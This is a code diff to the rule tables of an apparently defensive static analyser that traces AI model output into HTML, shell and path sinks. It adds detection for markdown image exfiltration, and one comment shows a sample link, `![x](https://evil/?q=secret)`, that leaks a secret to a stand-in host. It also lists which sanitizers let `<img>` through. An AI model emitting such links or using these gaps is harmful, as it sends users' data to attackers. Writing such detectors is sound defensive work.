@@ -3,7 +3,10 @@
  * Names are matched on the callee's dotted path after import aliases are resolved
  * (`sp.run` with `import subprocess as sp` is `subprocess.run`); `*.x` matches any receiver.
  */
-import { ALL_CONTEXTS, ALLOWLIST_CONTEXTS, CTX, PATH_NORMALIZED } from './taint';
+import { ALL_CONTEXTS, ALLOWLIST_CONTEXTS, CTX, MARKDOWN_IMAGES_STRIPPED, PATH_NORMALIZED } from './taint';
+
+/** Escaping to text: the result holds no tag at all, so no `<img>` either. */
+const TEXT = CTX.html | CTX.image;
 
 /** Calls whose result is model output, matched as a suffix of the dotted callee path. */
 export const PY_MODEL_CALL_SUFFIXES = [
@@ -42,9 +45,9 @@ export const PY_SANITIZERS: Record<string, number> = {
   int: ALL_CONTEXTS, float: ALL_CONTEXTS, bool: ALL_CONTEXTS, len: ALL_CONTEXTS, abs: ALL_CONTEXTS, round: ALL_CONTEXTS,
   'uuid.UUID': ALL_CONTEXTS, 'hashlib.sha256': ALL_CONTEXTS,
   'ast.literal_eval': CTX.code, 'json.loads': CTX.code, 'yaml.safe_load': CTX.code,
-  'html.escape': CTX.html, 'markupsafe.escape': CTX.html, 'flask.escape': CTX.html, 'jinja2.escape': CTX.html,
-  'bleach.clean': CTX.html, 'nh3.clean': CTX.html, 'cgi.escape': CTX.html,
-  'django.utils.html.escape': CTX.html, 'django.utils.html.conditional_escape': CTX.html, 'django.utils.html.strip_tags': CTX.html,
+  'html.escape': TEXT, 'markupsafe.escape': TEXT, 'flask.escape': TEXT, 'jinja2.escape': TEXT,
+  'bleach.clean': CTX.html, 'nh3.clean': CTX.html, 'cgi.escape': TEXT,
+  'django.utils.html.escape': TEXT, 'django.utils.html.conditional_escape': TEXT, 'django.utils.html.strip_tags': TEXT,
   'shlex.quote': CTX.shell, 'pipes.quote': CTX.shell,
   // paths: basename-only names are confined; normalisation enables a later startswith(base) check
   'os.path.basename': CTX.path, 'posixpath.basename': CTX.path, 'werkzeug.utils.secure_filename': CTX.path, 'werkzeug.secure_filename': CTX.path,
@@ -115,9 +118,9 @@ export const JS_SANITIZERS: Record<string, number> = {
   Number: ALL_CONTEXTS, parseInt: ALL_CONTEXTS, parseFloat: ALL_CONTEXTS, Boolean: ALL_CONTEXTS,
   'JSON.parse': CTX.code,
   'DOMPurify.sanitize': CTX.html, 'purify.sanitize': CTX.html, 'dompurify.sanitize': CTX.html, 'isomorphic-dompurify.sanitize': CTX.html,
-  'sanitizeHtml': CTX.html, 'sanitize-html': CTX.html, escapeHtml: CTX.html, 'escape-html': CTX.html, 'he.encode': CTX.html, 'he.escape': CTX.html,
-  'lodash.escape': CTX.html, '_.escape': CTX.html, xss: CTX.html, 'xss.filterXSS': CTX.html, filterXSS: CTX.html, 'validator.escape': CTX.html,
-  encodeURIComponent: CTX.html | CTX.shell, 'shell-quote.quote': CTX.shell, shellEscape: CTX.shell, 'shell-escape': CTX.shell,
+  'sanitizeHtml': CTX.html, 'sanitize-html': CTX.html, escapeHtml: TEXT, 'escape-html': TEXT, 'he.encode': TEXT, 'he.escape': TEXT,
+  'lodash.escape': TEXT, '_.escape': TEXT, xss: CTX.html, 'xss.filterXSS': CTX.html, filterXSS: CTX.html, 'validator.escape': TEXT,
+  encodeURIComponent: TEXT | CTX.shell, 'shell-quote.quote': CTX.shell, shellEscape: CTX.shell, 'shell-escape': CTX.shell,
   'path.basename': CTX.path, 'path.posix.basename': CTX.path, 'sanitize-filename': CTX.path, sanitizeFilename: CTX.path,
   'path.resolve': PATH_NORMALIZED, 'path.normalize': PATH_NORMALIZED, 'path.relative': PATH_NORMALIZED, 'path.posix.resolve': PATH_NORMALIZED,
   'fs.realpathSync': PATH_NORMALIZED, 'fs.promises.realpath': PATH_NORMALIZED, 'fs/promises.realpath': PATH_NORMALIZED,
@@ -130,3 +133,30 @@ export const JS_TOOL_FACTORIES = /(^|\.)(tool|DynamicStructuredTool|DynamicTool|
 /** `server.tool(name, ..., handler)`, `server.registerTool(name, config, handler)` (MCP TypeScript SDK). */
 export const JS_TOOL_REGISTRATIONS = new Set(['tool', 'registerTool', 'addTool']);
 export const JS_PASSTHROUGH = new Set(['String', 'JSON.stringify', 'marked', 'marked.parse', 'marked.marked', 'snarkdown', 'Array.from', 'Object.values', 'decodeURIComponent', 'atob']);
+
+
+// ---- markdown rendering and remote images (markdown image exfiltration) ----
+
+/** Functions that turn markdown into HTML: `![x](https://evil/?q=secret)` becomes an `<img>` that loads by itself. */
+export const PY_MARKDOWN_RENDERERS = new Set(['markdown.markdown', 'markdown2.markdown', 'mistune.html', 'mistune.markdown', 'commonmark.commonmark', 'markdown_it.MarkdownIt().render', 'cmarkgfm.github_flavored_markdown_to_html', 'cmarkgfm.markdown_to_html']);
+export const JS_MARKDOWN_RENDERERS = new Set(['marked', 'marked.parse', 'marked.marked', 'marked.marked.parse', 'snarkdown', 'micromark', 'markdown-it().render', 'markdown-it().renderInline']);
+/** Methods that render markdown when called on a markdown object (`md.render(x)`, `converter.makeHtml(x)`, `Markdown().convert(x)`). */
+export const MARKDOWN_METHODS = new Set(['render', 'renderInline', 'convert', 'makeHtml', 'parse', 'processSync']);
+export const MARKDOWN_RECEIVER = /markdown|^md$|(^|\.)md\(\)|mistune|marked|showdown|converter|remark|commonmark|MarkdownIt/i;
+/** A same-file or library helper that removes markdown images / remote URLs before rendering. */
+export const MARKDOWN_IMAGE_STRIPPER = /(strip|remove|drop|block|disable|no)_?(markdown_?|md_?|remote_?|external_?)?images?|images?_?(stripped|removed)|sanitize_?markdown|escape_?markdown|strip_?markdown/i;
+export const MARKDOWN_STRIPPED = MARKDOWN_IMAGES_STRIPPED | CTX.image;
+/**
+ * HTML sanitizers whose options decide whether `<img>` survives: `forbid` lists tags removed, `allow`
+ * lists tags kept; `keepsByDefault` is whether `<img>` survives without options.
+ */
+export const IMAGE_SANITIZER_OPTIONS: Record<string, { forbid?: string; allow?: string; keepsByDefault: boolean }> = {
+  'DOMPurify.sanitize': { forbid: 'FORBID_TAGS', allow: 'ALLOWED_TAGS', keepsByDefault: true },
+  'dompurify.sanitize': { forbid: 'FORBID_TAGS', allow: 'ALLOWED_TAGS', keepsByDefault: true },
+  'purify.sanitize': { forbid: 'FORBID_TAGS', allow: 'ALLOWED_TAGS', keepsByDefault: true },
+  'isomorphic-dompurify.sanitize': { forbid: 'FORBID_TAGS', allow: 'ALLOWED_TAGS', keepsByDefault: true },
+  'sanitize-html': { allow: 'allowedTags', keepsByDefault: false },
+  sanitizeHtml: { allow: 'allowedTags', keepsByDefault: false },
+  'bleach.clean': { allow: 'tags', keepsByDefault: false },
+  'nh3.clean': { allow: 'tags', keepsByDefault: true },
+};
